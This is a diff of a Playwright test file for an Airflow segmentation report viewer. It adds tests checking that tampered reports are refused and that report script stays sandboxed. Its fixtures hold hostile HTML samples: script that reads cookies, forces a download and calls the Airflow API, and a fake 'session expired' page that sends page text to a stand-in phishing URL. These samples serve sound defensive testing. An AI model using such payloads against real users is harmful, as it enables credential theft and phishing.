@@ -7,6 +7,7 @@ them the test skips, except under CI=true where it must run. Screenshots go to t
 from __future__ import annotations
 
 import os
+import re
 import shutil
 import uuid
 from pathlib import Path
@@ -15,9 +16,9 @@ import pytest
 
 from include.segmentation import report
 from include.segmentation import results as results_module
-from include.segmentation_aws.published_runs import run_summary
 from tests.conftest import PROJECT_ROOT
 from tests.dag.conftest import api_token, record_publication, running_api_server
+from tests.published_files import publish_files
 from tests.synthetic_run import synthetic_run
 
 pytestmark = pytest.mark.slow
@@ -60,12 +61,9 @@ def published_report(airflow_db, clients) -> tuple[str, int]:
     html, plots = report.build_report(results)
     bucket, run_id = f"popseg-browser-{uuid.uuid4().hex[:8]}", "manual__2026-11-23T02:00:00+00:00"
     s3.create_bucket(Bucket=bucket)
-    prefix = f"segmentation/runs/{run_id}/"
-    s3.put_object(Bucket=bucket, Key=prefix + "report.html", Body=html.encode())
-    for name, data in plots.items():
-        s3.put_object(Bucket=bucket, Key=prefix + name, Body=data)
-    s3.put_object(Bucket=bucket, Key=prefix + "segments.csv", Body=results_module.csv_bytes(results.segments))
-    record_publication(run_summary({**results.run, "run_id": run_id}, f"s3://{bucket}/{prefix}"))
+    files = {"report.html": html.encode(), **plots, "segments.csv": results_module.csv_bytes(results.segments)}
+    run = {**results.run, "run_id": run_id}
+    record_publication(publish_files(s3, run, f"s3://{bucket}/segmentation/runs/{run_id}/", files))
     return run_id, len(results.segments)
 
 
@@ -102,44 +100,48 @@ def test_from_the_airflow_ui_through_the_segmentation_view_to_a_rendered_report(
         page.screenshot(path=SCREENSHOTS / "2-segmentation-runs.png", full_page=True)
 
         page.get_by_role("link", name=run_id).click()
-        page.locator("#kmeans").wait_for()
-        images = page.locator("img")
+        # The run's page: its segments.csv link above the report, which is in a sandboxed frame.
+        report = page.frame_locator("#report")
+        report.locator("#kmeans").wait_for()
+        frame = page.frame(url=re.compile(r"/report\.html$"))
+        images = report.locator("img")
         assert images.count() >= 10
-        rendered = page.evaluate("Array.from(document.images).every(i => i.complete && i.naturalWidth > 0)")
+        rendered = frame.evaluate("Array.from(document.images).every(i => i.complete && i.naturalWidth > 0)")
         assert rendered, "every plot in the report is decoded and drawn"
         page.screenshot(path=SCREENSHOTS / "3-report-top.png")
-        page.locator("#kmeans").scroll_into_view_if_needed()
+        report.locator("#kmeans").evaluate("section => section.scrollIntoView()")
         page.screenshot(path=SCREENSHOTS / "4-report-segments.png")
 
-        assert page.locator("#shown").inner_text() == f"{counties} of {counties} counties"
-        page.fill("#filter", "segment-that-does-not-exist")
-        assert page.locator("#shown").inner_text() == f"0 of {counties} counties"
-        page.fill("#filter", "")
-        page.select_option("#segment-filter", "0")  # an exact segment, not every row with a 0 in it
-        in_segment_0 = int(page.locator("#shown").inner_text().split()[0])
+        assert report.locator("#shown").inner_text() == f"{counties} of {counties} counties"
+        report.locator("#filter").fill("segment-that-does-not-exist")
+        assert report.locator("#shown").inner_text() == f"0 of {counties} counties"
+        report.locator("#filter").fill("")
+        report.locator("#segment-filter").select_option("0")  # an exact segment, not every row with a 0 in it
+        in_segment_0 = int(report.locator("#shown").inner_text().split()[0])
         assert 0 < in_segment_0 < counties
-        page.select_option("#segment-filter", "")
-        page.locator("#county-table th", has_text="distance").click()
-        page.locator("#county-table th", has_text="distance").click()  # descending
+        report.locator("#segment-filter").select_option("")
+        report.locator("#county-table th", has_text="distance").click()
+        report.locator("#county-table th", has_text="distance").click()  # descending
         first, second = (
-            float(page.locator("#county-table tbody tr").nth(i).locator("td").nth(2).inner_text()) for i in (0, 1)
+            float(report.locator("#county-table tbody tr").nth(i).locator("td").nth(2).inner_text()) for i in (0, 1)
         )
         assert first >= second
-        page.locator("#counties").scroll_into_view_if_needed()
+        report.locator("#counties").scroll_into_view_if_needed()
         page.screenshot(path=SCREENSHOTS / "5-report-counties-sorted.png")
-        # The full data: the report's relative link, from inside its sandbox, downloads the run's segments.csv.
+        # The full data: the run page's link (outside the report's sandbox) downloads the run's segments.csv.
+        assert report.locator("#full-data a, a#full-data").count() == 0  # the report names it, links nothing
         with page.expect_download() as download:
-            page.locator("#full-data").click()
+            page.locator("#segments-csv").click()
         assert download.value.suggested_filename == "segments.csv"
         lines = Path(download.value.path()).read_text().splitlines()
         assert lines[0].startswith("State-County,segment,distance,c_1") and len(lines) == counties + 1
 
-        counties_drawn = page.locator("#segment-map #map-counties path[data-segment]")
+        counties_drawn = report.locator("#segment-map #map-counties path[data-segment]")
         # Puerto Rico's 78 municipios and three Virginia cities (a point at 1:10M) have no shape; the page says so.
         assert counties_drawn.count() == counties - 81
-        assert "81 without a shape" in page.locator("#map").inner_text()
-        page.locator("#map").scroll_into_view_if_needed()
-        assert page.locator("#segment-map").bounding_box()["width"] > 900  # drawn at page width
+        assert "81 without a shape" in report.locator("#map").inner_text()
+        report.locator("#map").scroll_into_view_if_needed()
+        assert report.locator("#segment-map").bounding_box()["width"] > 900  # drawn at page width
         county = counties_drawn.nth(1000)
         county.hover()
         assert county.evaluate("p => getComputedStyle(p).stroke") == "rgb(0, 0, 0)"  # the hovered county stands out
@@ -148,43 +150,132 @@ def test_from_the_airflow_ui_through_the_segmentation_view_to_a_rendered_report(
         browser.close()
 
 
-# A report planted by whoever can write the results bucket: it tries to act as the Airflow user who opens it.
-PLANTED_REPORT = """<!doctype html><html><body><pre id="out">script did not run</pre><script>
+# Script acting as the Airflow user who opens the report: what a report planted by whoever can write the results
+# bucket would run, or our own report if a bug let script into it.
+HOSTILE_REPORT = """<!doctype html><html><body><pre id="out">script did not run</pre><script>
 const out = document.getElementById("out");
 const say = (line) => { out.textContent += "\\n" + line; };
 out.textContent = "script ran";
 try { say("cookie:" + document.cookie); } catch (e) { say("cookie blocked"); }
 try { localStorage.setItem("x", "1"); say("storage open"); } catch (e) { say("storage blocked"); }
+const save = document.createElement("a");
+save.href = "data:text/csv,planted"; save.download = "segments.csv"; document.body.appendChild(save); save.click();
 fetch("/api/v2/dags", {credentials: "include"}).then(r => say("api " + r.status), () => say("api blocked"));
 const img = new Image(); img.src = "/api/v2/dags?via=img"; document.body.appendChild(img);
 </script></body></html>"""
+# Phishing inside the Airflow UI: the report's frame sent away, with the page's text, to a page of its own.
+PHISHING = "http://127.0.0.1:9/login"
+NAVIGATING_REPORT = f"""<!doctype html><html><body><p>Session expired, sign in again</p><script>
+location.href = "{PHISHING}?text=" + encodeURIComponent(document.body.innerText);
+</script></body></html>"""
+RUN = {"rows": 3, "n_components": 1, "explained_variance": 0.9, "params": {"k": 2}}
+
+
+def _publish_report(s3, run_id: str, report: str) -> str:
+    """A run that published `report` (its digest recorded): its results URI."""
+    bucket = f"popseg-hostile-{uuid.uuid4().hex[:8]}"
+    s3.create_bucket(Bucket=bucket)
+    results = f"s3://{bucket}/segmentation/runs/{run_id}/"
+    record_publication(publish_files(s3, {**RUN, "run_id": run_id}, results, {"report.html": report.encode()}))
+    return results
 
 
 @pytest.fixture
 def planted_report(airflow_db, clients) -> str:
-    s3 = clients["s3"]
-    bucket, run_id = f"popseg-planted-{uuid.uuid4().hex[:8]}", "manual__planted"
-    s3.create_bucket(Bucket=bucket)
-    s3.put_object(Bucket=bucket, Key=f"segmentation/runs/{run_id}/report.html", Body=PLANTED_REPORT.encode())
-    run = {"run_id": run_id, "rows": 3, "n_components": 1, "explained_variance": 0.9, "params": {"k": 2}}
-    record_publication(run_summary(run, f"s3://{bucket}/segmentation/runs/{run_id}/"))
+    """A run's report replaced in S3 after the run published it: the run id."""
+    s3, run_id = clients["s3"], "manual__planted"
+    bucket, prefix = _publish_report(s3, run_id, "<h1>the real report</h1>").removeprefix("s3://").split("/", 1)
+    s3.put_object(Bucket=bucket, Key=prefix + "report.html", Body=NAVIGATING_REPORT.encode())
     return run_id
 
 
-def test_a_planted_report_runs_sandboxed_and_cannot_call_the_airflow_api(
+def _watched(page) -> dict[str, list]:
+    """What the page does that a report must not: requests leaving for PHISHING, downloads, Airflow API calls."""
+    seen = {"phishing": [], "downloads": [], "api reached": [], "api blocked": []}
+    page.on("request", lambda request: request.url.startswith(PHISHING) and seen["phishing"].append(request.url))
+    page.on("download", lambda download: seen["downloads"].append(download.suggested_filename))
+    page.on("requestfinished", lambda request: "/api/" in request.url and seen["api reached"].append(request.url))
+    page.on("requestfailed", lambda request: "/api/" in request.url and seen["api blocked"].append(request.failure))
+    return seen
+
+
+def test_a_report_changed_in_s3_after_publishing_is_refused_with_its_reason(
     airflow_db, aws_env, planted_report, tmp_path
+) -> None:
+    sync_playwright = _browser_or_skip()
+    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
+    with running_api_server(aws_env, tmp_path) as base, sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
+        page = _signed_in(browser, base)
+        seen = _watched(page)
+        page_url = f"{base}/segmentation/runs/{planted_report}/report"
+        answer = page.goto(page_url)
+        refused = page.locator("#refused").inner_text()
+        frames = page.locator("iframe").count()
+        page.screenshot(path=SCREENSHOTS / "7-planted-report-refused.png")
+        # Opened directly, the report's own address answers the refusal too: nothing runs, nothing redirects.
+        direct = page.goto(f"{base}/segmentation/runs/{planted_report}/report.html")
+        direct_text, direct_url = page.locator("body").inner_text(), page.url
+        page.wait_for_timeout(500)  # a script that ran would have navigated by now
+        browser.close()
+    assert answer.status == 409 and frames == 0
+    assert f"report.html of run {planted_report} is not the file the run published" in refused
+    assert direct.status == 409 and "is not the file the run published" in direct_text
+    assert direct_url.endswith("/report.html") and seen["phishing"] == [] and seen["downloads"] == []
+
+
+@pytest.fixture
+def hostile_report(airflow_db, clients) -> str:
+    run_id = "manual__hostile_script"
+    _publish_report(clients["s3"], run_id, HOSTILE_REPORT)
+    return run_id
+
+
+def test_a_report_with_script_runs_sandboxed_without_the_airflow_api_or_downloads(
+    airflow_db, aws_env, hostile_report, tmp_path
 ) -> None:
     sync_playwright = _browser_or_skip()
     with running_api_server(aws_env, tmp_path) as base, sync_playwright() as p:
         browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
         page = _signed_in(browser, base)
-        reached, blocked = [], []  # requests to the Airflow API that got an answer, and those the browser stopped
-        page.on("requestfinished", lambda request: "/api/" in request.url and reached.append(request.url))
-        page.on("requestfailed", lambda request: "/api/" in request.url and blocked.append(request.failure))
-        page.goto(f"{base}/segmentation/runs/{planted_report}/report")
+        seen = _watched(page)
+        page.goto(f"{base}/segmentation/runs/{hostile_report}/report")
+        report = page.frame_locator("#report")
+        report.locator("#out").wait_for()
+        frame = page.frame(url=re.compile(r"/report\.html$"))
+        frame.wait_for_function("document.getElementById('out').textContent.includes('api ')", timeout=20_000)
+        outcome = report.locator("#out").inner_text().splitlines()
+        # Opened directly, only the report's own CSP sandbox applies (the run page's frame adds its own).
+        page.goto(f"{base}/segmentation/runs/{hostile_report}/report.html")
         page.wait_for_function("document.getElementById('out').textContent.includes('api ')", timeout=20_000)
-        outcome = page.locator("#out").inner_text().splitlines()
+        direct = page.locator("#out").inner_text().splitlines()
+        page.wait_for_timeout(500)  # time for a download to start, had it been allowed
         browser.close()
     # The script ran (the report's own sorting and filtering need that), in an opaque origin off the network.
-    assert outcome == ["script ran", "cookie blocked", "storage blocked", "api blocked"], outcome
-    assert reached == [] and blocked == ["csp"], (reached, blocked)  # the <img> attempt, stopped by the CSP
+    assert outcome == direct == ["script ran", "cookie blocked", "storage blocked", "api blocked"], (outcome, direct)
+    assert seen["api reached"] == [] and seen["api blocked"] == ["csp", "csp"], seen  # each <img>, stopped by the CSP
+    assert seen["downloads"] == []  # no download without a click: the sandbox has no allow-downloads
+
+
+@pytest.fixture
+def navigating_report(airflow_db, clients) -> str:
+    run_id = "manual__navigating"
+    _publish_report(clients["s3"], run_id, NAVIGATING_REPORT)
+    return run_id
+
+
+def test_a_report_cannot_send_its_frame_to_another_site(airflow_db, aws_env, navigating_report, tmp_path) -> None:
+    sync_playwright = _browser_or_skip()
+    with running_api_server(aws_env, tmp_path) as base, sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
+        page = _signed_in(browser, base)
+        seen = _watched(page)
+        violations = []
+        page.on("console", lambda message: "frame-src" in message.text and violations.append(message.text))
+        page.goto(f"{base}/segmentation/runs/{navigating_report}/report")
+        page.wait_for_timeout(2_000)  # the script navigates as soon as it runs
+        frame_urls = [frame.url for frame in page.frames]
+        browser.close()
+    # The run page's frame-src 'self' stops the navigation before any request leaves for the other site.
+    assert seen["phishing"] == [] and not any(url.startswith(PHISHING) for url in frame_urls), frame_urls
+    assert violations, "the browser reports the blocked navigation as a frame-src violation"
